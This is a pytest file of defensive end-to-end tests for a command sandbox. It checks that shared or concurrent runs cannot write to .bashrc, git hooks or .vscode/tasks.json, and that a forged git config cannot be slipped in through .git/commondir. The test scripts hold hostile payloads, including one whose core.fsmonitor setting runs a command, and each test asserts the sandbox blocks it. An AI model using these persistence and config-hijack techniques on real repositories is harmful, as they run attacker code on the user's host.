def test_concurrent_sandboxes_same_workspace_keep_protection(sb):
    """Two sandboxes share a writable root (an agent running two commands
    in one repository).  When the first exits and removes its stand-ins,
    the second must stay protected."""
    a = sb.popen("echo ready; read x", settings=WRITE_WS,
                 stdin=subprocess.PIPE)
    assert read_line(a) == b"ready\n"
    b = sb.popen("echo ready; read x; "
                 "echo pwned > .bashrc; "
                 "mkdir -p .git/hooks; echo pwned > .git/hooks/pre-commit; "
                 "mkdir -p .vscode; echo pwned > .vscode/tasks.json; "
                 "echo finished", settings=WRITE_WS, stdin=subprocess.PIPE)
    assert read_line(b) == b"ready\n"
    a.communicate(b"go\n", timeout=20)             # first run ends
    out, err = b.communicate(b"go\n", timeout=20)
    assert b"finished" in out, (out, err)
    leaked = [rel for rel in (".bashrc", ".git/hooks/pre-commit",
                              ".vscode/tasks.json")
              if (sb.ws / rel).exists() and
              (sb.ws / rel).read_text() == "pwned\n"]
    assert leaked == [], "protected paths written after the other run " \
        "exited: %s (stderr: %r)" % (leaked, err)


def test_concurrent_sandboxes_of_two_users_keep_protection(sb):
    """Same as above, but the first run belongs to root and the second to
    the unprivileged owner of the workspace."""
    if sb.ident.name != "user":
        pytest.skip("needs root and a second user")
    settings = sb.write_settings(WRITE_WS)
    home = sb.mkdir("roothome", base=sb.base)
    a = subprocess.Popen([sb.srt, "--settings", settings, "--", "sh", "-c",
                          "echo ready; read x"], cwd=str(sb.ws),
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, start_new_session=True,
                         env={"PATH": "/usr/bin:/bin", "HOME": str(home),
                              "LC_ALL": "C"})
    sb._procs.append(a)
    assert read_line(a) == b"ready\n"
    b = sb.popen("echo ready; read x; "
                 "echo pwned > .bashrc; "
                 "mkdir -p .git/hooks; echo pwned > .git/hooks/pre-commit; "
                 "echo finished", settings=WRITE_WS, stdin=subprocess.PIPE)
    assert read_line(b) == b"ready\n"
    a.communicate(b"go\n", timeout=20)
    out, err = b.communicate(b"go\n", timeout=20)
    assert b"finished" in out, (out, err)
    leaked = [rel for rel in (".bashrc", ".git/hooks/pre-commit")
              if (sb.ws / rel).exists() and
              (sb.ws / rel).read_text() == "pwned\n"]
    assert leaked == [], "protected paths written after root's run " \
        "exited: %s (stderr: %r)" % (leaked, err)


@pytest.mark.usefixtures("standins")
def test_hostile_run_directory_is_refused(sb):
    """/tmp/srt-UID pre-created by someone else (or a symlink) must not be
    used: a run that needs it (stand-ins to journal) fails closed and writes
    nothing there; a run that does not need it ignores it."""
    if sb.ident.name != "user":
        pytest.skip("needs a second user to own the hostile directory")
    d = "/tmp/srt-%d" % sb.uid
    saved = None
    if os.path.lexists(d):
        saved = d + ".e2e-saved-%d" % os.getpid()
        os.rename(d, saved)
    attacker = sb.mkdir("attacker", base=sb.base)
    os.chown(attacker, 0, 0)
    os.chmod(attacker, 0o777)
    try:
        for kind in ("symlink", "foreign-dir"):
            if kind == "symlink":
                os.symlink(str(attacker), d)
            else:
                os.mkdir(d)
                os.chmod(d, 0o777)
            try:
                r = sb.run(["echo", "PLAIN"])
                assert r.returncode == 0 and "PLAIN" in r.stdout, (kind, r)
                assert os.listdir(attacker) == []
                r = sb.run(["echo", "RAN-MARKER"], settings=WRITE_WS)
                assert r.returncode == 125, (kind, r)
                assert r.stderr.startswith("srt: ") and d in r.stderr, r
                assert "RAN-MARKER" not in r.stdout
                assert os.listdir(attacker) == []
                if kind == "foreign-dir":
                    assert os.listdir(d) == []
            finally:
                if os.path.islink(d):
                    os.unlink(d)
                else:
                    shutil.rmtree(d)
    finally:
        if saved:
            os.rename(saved, d)


def test_git_config_cannot_be_redirected_with_commondir(sb):
    """.git/config is protected; pointing the repository at another config
    through .git/commondir (or the like) must not change the effective git
    configuration the user gets on the host after the run."""
    sb.host(["git", "init", "-q", "."])
    script = (
        "mkdir -p evil/objects evil/refs/heads evil/hooks && "
        "cp .git/HEAD evil/HEAD && "
        "printf '[core]\\n\\trepositoryformatversion = 0\\n"
        "\\tfsmonitor = \"touch %s/PWNED; false\"\\n' > evil/config; "
        "echo ../evil > .git/commondir; "
        "echo '[core]' > .git/config.worktree; exit 0" % sb.base)
    sb.run(script, settings=WRITE_WS)
    # read the effective config on the host without executing anything
    r = sb.host(["git", "config", "--get", "core.fsmonitor"], check=False,
                env={"GIT_CONFIG_NOSYSTEM": "1"})
    assert "PWNED" not in r.stdout, \
        "sandbox changed the repository's effective git config: %r" % r.stdout
